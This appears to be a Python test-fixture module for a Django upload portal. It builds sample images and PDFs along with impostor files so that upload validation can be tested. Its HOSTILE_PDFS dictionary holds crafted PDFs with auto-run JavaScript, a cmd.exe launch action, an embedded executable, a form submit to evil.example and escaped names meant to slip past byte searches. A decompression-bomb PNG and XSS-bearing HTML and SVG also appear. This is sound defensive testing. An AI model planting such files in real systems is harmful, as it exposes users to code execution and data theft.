"""Small real files for upload tests: images made with Pillow, a minimal PDF, impostors."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

GPS_IFD = 0x8825
MAKE_TAG = 0x010F
ORIENTATION_TAG = 0x0112


def png_bytes(size=(32, 24), colour=(30, 120, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg_with_location(size=(40, 20), orientation: int = 1) -> bytes:
    """A JPEG carrying a GPS position, a camera make and a comment, like a phone photo."""
    exif = Image.Exif()
    exif[MAKE_TAG] = "SecretCam"
    exif[ORIENTATION_TAG] = orientation
    exif[GPS_IFD] = {1: "N", 2: (52.0, 13.0, 0.0), 3: "E", 4: (13.0, 24.0, 0.0)}
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format="JPEG", exif=exif, comment=b"home address")
    return buffer.getvalue()


def build_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A well-formed PDF: object n+1 is objects[n], with a correct cross-reference table.

    Object 1 must be the catalog. `trailer` adds entries to the trailer dictionary.
    """
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref_at)
    return bytes(out)


def pdf_bytes(catalog_extra: bytes = b"", page_extra: bytes = b"", more_objects: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF; the extras add entries to the catalog and the page, `more_objects` become objects 4, 5..."""
    return build_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog_extra,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]%s>>" % page_extra,
            *more_objects,
        ]
    )


ELF_BYTES = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
WINDOWS_EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200
HTML_BYTES = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_BYTES = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    """An upload whose declared type is irrelevant: the portal must look at the bytes."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def png_upload(name: str = "rash.png") -> SimpleUploadedFile:
    return upload(name, png_bytes(), "image/png")


# --- Hostile files --------------------------------------------------------------------

JAVASCRIPT_ACTION = b"<</S/JavaScript/JS(app.alert('pwned'))>>"

# PDFs that act on their own when opened, each as a viewer would find it.
HOSTILE_PDFS = {
    "open-action-javascript": pdf_bytes(catalog_extra=b"/OpenAction 4 0 R", more_objects=(JAVASCRIPT_ACTION,)),
    "document-level-javascript": pdf_bytes(
        catalog_extra=b"/Names<</JavaScript 4 0 R>>", more_objects=(b"<</Names[(init) 5 0 R]>>", JAVASCRIPT_ACTION)
    ),
    "page-open-launches-a-program": pdf_bytes(page_extra=b"/AA<</O<</S/Launch/F(cmd.exe)>>>>"),
    "embedded-file": pdf_bytes(
        catalog_extra=b"/Names<</EmbeddedFiles<</Names[(invoice.exe) 4 0 R]>>>>",
        more_objects=(
            b"<</Type/Filespec/F(invoice.exe)/EF<</F 5 0 R>>>>",
            b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
        ),
    ),
    "xfa-form": pdf_bytes(
        catalog_extra=b"/AcroForm<</Fields[]/XFA 4 0 R>>",
        more_objects=(b"<</Length 7>>\nstream\n<xdp/>\nendstream",),
    ),
    "rich-media-annotation": pdf_bytes(
        page_extra=b"/Annots[4 0 R]", more_objects=(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 10 10]>>",)
    ),
    "submit-form-on-open": pdf_bytes(catalog_extra=b"/OpenAction<</S/SubmitForm/F(https://evil.example/)>>"),
    # "#61" is "a" and "#53" is "S": the same names, spelled so that a byte search misses them.
    "escaped-names": pdf_bytes(catalog_extra=b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    # Referenced by nothing, but a viewer that repairs the file may still find it.
    "orphan-javascript-object": pdf_bytes(more_objects=(JAVASCRIPT_ACTION,)),
}

# Harmless features real letters and lab reports have.
BENIGN_PDFS = {
    "opens-at-first-page": pdf_bytes(catalog_extra=b"/OpenAction[3 0 R/Fit]"),
    "opens-with-goto-action": pdf_bytes(catalog_extra=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "web-link": pdf_bytes(
        page_extra=b"/Annots[4 0 R]",
        more_objects=(b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://lab.example/)>>>>",),
    ),
}


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims width × height but which holds almost no pixel data:
    tiny on disk, huge once decoded (a decompression bomb's shape)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def mpo_bytes(size=(40, 30)) -> bytes:
    """A multi-picture JPEG as phones save it (a photo, then a second picture), with a GPS position."""
    exif = Image.Exif()
    exif[MAKE_TAG] = "SecretCam"
    exif[GPS_IFD] = {1: "N", 2: (52.0, 13.0, 0.0), 3: "E", 4: (13.0, 24.0, 0.0)}
    first = Image.new("RGB", size, (200, 30, 30))
    second = Image.new("RGB", size, (30, 30, 200))
    buffer = io.BytesIO()
    first.save(buffer, format="MPO", save_all=True, append_images=[second], exif=exif)
    return buffer.getvalue()
